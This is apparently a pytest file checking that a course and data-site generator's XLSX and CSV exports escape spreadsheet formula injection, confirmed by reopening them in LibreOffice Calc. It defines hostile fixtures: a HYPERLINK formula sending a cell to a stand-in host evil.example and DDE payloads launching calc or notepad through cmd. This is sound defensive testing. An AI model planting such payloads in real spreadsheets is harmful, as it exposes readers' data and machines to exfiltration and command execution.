"""Spreadsheets and CSV files never run entry text as a formula (issue 22, item 5; the OWASP CSV-injection rule).

Every XLSX and CSV the project writes — the quiz spreadsheet of a course pack, the site's facts.csv and each
indicator's timeline CSV — is written with hostile texts in the fields it takes from entries, read back, and
opened in LibreOffice Calc: no cell is a formula, the text reads as written, and numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from generator.content.model import Bilingual
from generator.content.spreadsheet import csv_cell, starts_like_formula
from generator.content.timeline import IndicatorTimeline
from generator.courses.checks import CourseCheck
from generator.site.projectcheck import check_project

ROOT = Path(__file__).resolve().parent.parent
INDUCTION = "xin-ren-she-qu-gong-zuo-zhe-ru-zhi"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点这里查看答案")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C notepad'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
SPACED = "  =1+1"
HOSTILE = (HYPERLINK, DDE, PLUS, MINUS, TAB, CR, SPACED)


@pytest.fixture(scope="module")
def hostile() -> CourseCheck:
    """The repository's corpus and courses with entry texts replaced, in memory, by formulas and signed numbers."""
    result = check_project([ROOT], None)
    corpus = result.corpus
    indicator = corpus.indicators["rural-community-service-facility-coverage"]
    indicator.name = Bilingual(zh=HYPERLINK, en=DDE)
    indicator.unit = Bilingual(zh=PLUS, en=PLUS)
    for document, fact in corpus.facts_of(indicator.id):
        fact.scope = Bilingual(zh="-5%", en="+3")
        fact.note = Bilingual(zh=MINUS, en=TAB)
        document.title = Bilingual(zh=CR, en=SPACED)
    item = result.courses.courses[INDUCTION].quiz[0]
    item.stem = Bilingual(zh=HYPERLINK)
    item.explanation = Bilingual(zh="-5%")
    item.options = [Bilingual(zh=DDE), Bilingual(zh="+3"), Bilingual(zh=MINUS), Bilingual(zh=SPACED)]
    return result


def test_the_rule() -> None:
    for text in (*HOSTILE, "=1", "+a", "-x", "@x", "\t1", "\r1", "\u3000=1", "\u00a0@x", "-5%+cmd|' /C calc'!A0"):
        assert starts_like_formula(text), repr(text)
        assert csv_cell(text) == "'" + text
    for sign in ("=", "-", "+", "@"):  # the comparator '=', a dash for "none": nothing to run
        assert starts_like_formula(sign) and csv_cell(sign) == sign
    for text in ("普通文本", "5%", "A", "", "社区-邻里", "(1)", "'=1"):
        assert not starts_like_formula(text) and csv_cell(text) == text
    for plain in ("-5%", "+3", "-0.5", "+12.5%", "-.5"):  # no program runs a number: it stays readable as one
        assert csv_cell(plain) == plain
    for number in (-5, 3.5, 2020):
        assert csv_cell(number) == number


def _quiz_xlsx(result: CourseCheck, folder: Path) -> Path:
    from generator.courses.content import CourseResolver
    from generator.courses.quiz import quiz_citations, write_xlsx

    resolver = CourseResolver(result.corpus, "https://compendium.example.cn/")
    view = resolver.view(result.courses.courses[INDUCTION], "zh")
    citations, urls = quiz_citations(view, resolver)
    path = folder / f"{INDUCTION}-quiz.xlsx"
    write_xlsx(view, citations, urls, path)
    return path


def test_quiz_spreadsheet_keeps_every_text_a_string(hostile: CourseCheck, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = _quiz_xlsx(hostile, tmp_path)
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml, "a cell is stored as a formula"
    sheet = load_workbook(path).active
    row = list(sheet[2])
    by_value = {cell.value: cell for cell in row}
    for text in (HYPERLINK, DDE, "+3", MINUS, SPACED, "-5%"):  # quiz options as written, leading spaces kept
        cell = by_value[text]  # the exact text, no apostrophe added
        assert cell.data_type == "s" and cell.quotePrefix, (text, cell.data_type)
    assert not by_value[1].quotePrefix and by_value[1].data_type == "n"  # the item number stays a number
    plain = [cell for cell in row if isinstance(cell.value, str) and not starts_like_formula(cell.value)]
    assert plain and not any(cell.quotePrefix for cell in plain)


def _facts_csv(result: CourseCheck, folder: Path) -> str:
    from generator.site.downloads import write_downloads

    write_downloads(result.corpus, folder)
    with (folder / "facts.csv").open(encoding="utf-8-sig", newline="") as handle:  # keep a carriage return in a cell
        return handle.read()


def _timeline_csv(result: CourseCheck, lang: str) -> str:
    from generator.site.timeline_view import TimelineView

    indicator = result.corpus.indicators["rural-community-service-facility-coverage"]
    return TimelineView(result.corpus, lang).csv_text(IndicatorTimeline.build(result.corpus, indicator)).lstrip("\ufeff")


def test_facts_csv_writes_formulas_as_text(hostile: CourseCheck, tmp_path: Path) -> None:
    rows = list(csv.DictReader(io.StringIO(_facts_csv(hostile, tmp_path))))
    mine = [row for row in rows if row["indicator_id"] == "rural-community-service-facility-coverage"]
    assert mine
    for row in mine:
        assert row["indicator_zh"] == "'" + HYPERLINK and row["indicator_en"] == "'" + DDE
        assert row["unit"] == "'" + PLUS and row["note_zh"] == "'" + MINUS
        assert row["document_title_zh"] == "'" + CR and row["document_title_en"] == "'" + SPACED
        assert row["scope_zh"] == "-5%" and row["scope_en"] == "+3"  # plain numbers read as they are
        float(row["value"])  # numbers are written as numbers
    others = [row for row in rows if row["indicator_id"] != "rural-community-service-facility-coverage"]
    assert others and not any(value.startswith("'") for row in others for key, value in row.items()
                              if not key.startswith("document_title"))  # (the documents' titles were changed too)


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_timeline_csv_writes_formulas_as_text(hostile: CourseCheck, lang: str) -> None:
    rows = list(csv.DictReader(io.StringIO(_timeline_csv(hostile, lang))))
    assert rows
    for row in rows:
        assert row["unit"] == "'" + PLUS
        assert row["note"] == "'" + (MINUS if lang == "zh" else TAB)
        assert row["scope"] == ("-5%" if lang == "zh" else "+3")
        float(row["value"])


def _calc_cells(path: Path, folder: Path) -> list[tuple[object, str]]:
    """Every cell of ``path`` as LibreOffice Calc reads it: (value, openpyxl data type) after Calc saves it as XLSX."""
    from openpyxl import load_workbook

    soffice = shutil.which("soffice")
    if soffice is None or not list(Path("/usr/lib/libreoffice/program").glob("libsclo.so")):
        if os.environ.get("CI"):
            pytest.fail("LibreOffice Calc missing: apt-get install libreoffice-calc-nogui")
        pytest.skip("LibreOffice Calc (libreoffice-calc-nogui) is not installed")
    out = folder / "calc"
    command = [soffice, f"-env:UserInstallation=file://{folder / 'profile'}", "--headless"]
    if path.suffix == ".csv":  # comma-separated, double quotes, UTF-8, from line 1: how a reader's Calc opens it
        command.append("--infilter=Text - txt - csv (StarCalc):44,34,76,1")
    subprocess.run([*command, "--convert-to", "xlsx", "--outdir", str(out), str(path)], check=True, capture_output=True,
                   timeout=180)
    sheet = load_workbook(out / f"{path.stem}.xlsx").active
    return [(cell.value, cell.data_type) for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_libreoffice_calc_runs_nothing_and_shows_the_text(hostile: CourseCheck, tmp_path: Path) -> None:
    quiz = _calc_cells(_quiz_xlsx(hostile, tmp_path), tmp_path)
    assert not [value for value, kind in quiz if kind == "f"], "Calc read a formula in the quiz"
    values = {value for value, _ in quiz}
    assert {HYPERLINK, DDE, "+3", "-5%"} <= values  # shown as written, without an apostrophe
    facts = tmp_path / "facts.csv"
    facts.write_text(_facts_csv(hostile, tmp_path / "downloads"), encoding="utf-8", newline="")
    cells = _calc_cells(facts, tmp_path)
    assert not [value for value, kind in cells if kind == "f"], "Calc read a formula in facts.csv"
    texts = {value for value, _ in cells if isinstance(value, str)}
    assert "'" + HYPERLINK in texts and "'" + DDE in texts
    assert any(isinstance(value, (int, float)) and kind == "n" for value, kind in cells)  # numbers stay numbers
